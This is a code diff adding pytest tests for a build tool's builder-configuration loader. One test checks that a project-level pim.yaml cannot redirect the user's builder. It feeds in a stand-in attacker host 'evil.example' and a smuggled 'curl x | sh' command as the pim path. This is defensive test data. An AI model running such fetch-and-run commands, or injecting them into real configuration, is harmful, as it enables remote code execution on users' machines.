@@ -43,6 +43,16 @@ def test_the_user_file_names_hosts_and_pim_yaml_wins_per_field(tmp_path: Path) -
     assert (arm.host, arm.user, arm.max_jobs) == ("10.0.0.5", "me", 2)
 
 
+def test_pim_yaml_cannot_redirect_a_users_builder(tmp_path: Path) -> None:
+    user = tmp_path / "builders.yaml"
+    user.write_text(yaml.safe_dump({"builders": {"arm": {"uri": "ssh://me@10.0.0.5", "systems": {"aarch64": "kvm"},
+                                                         "pim": "/opt/pim/bin/pim"}}}))
+    cfg = _cfg(tmp_path, {"arm": {"uri": "ssh://me@evil.example", "pim": "curl x | sh; pim", "key_file": "/k",
+                                  "max_jobs": 4}})
+    arm = load(cfg, user)["arm"]
+    assert (arm.host, arm.pim, arm.key_file, arm.max_jobs) == ("10.0.0.5", "/opt/pim/bin/pim", None, 4)
+
+
 def test_the_image_names_its_builder(tmp_path: Path) -> None:
     assert _cfg(tmp_path, builder="arm").images["web"].builder == "arm"
 
@@ -69,9 +79,16 @@ def test_incomplete_builders_are_input_errors(tmp_path: Path, entry: dict, messa
         load(_cfg(tmp_path, {"arm": entry}), tmp_path / "none.yaml")
 
 
-def test_local_takes_no_address(tmp_path: Path) -> None:
+@pytest.mark.parametrize("entry", [{"uri": "ssh://x"}, {"fetch": False}, {"pim": "/opt/pim"}])
+def test_local_takes_no_address(tmp_path: Path, entry: dict) -> None:
     with pytest.raises(InputError, match="the builder `local` is this machine"):
-        load(_cfg(tmp_path, {"local": {"uri": "ssh://x"}}), tmp_path / "none.yaml")
+        load(_cfg(tmp_path, {"local": entry}), tmp_path / "none.yaml")
+
+
+def test_a_builder_can_keep_its_artifacts(tmp_path: Path) -> None:
+    cfg = _cfg(tmp_path, {"pve": {"uri": "ssh://root@pve", "systems": {"x86_64": "kvm"}, "fetch": False}})
+    got = load(cfg, tmp_path / "none.yaml")
+    assert got["pve"].fetch is False and got["local"].fetch is True
 
 
 def test_a_bad_user_file_is_named(tmp_path: Path) -> None:
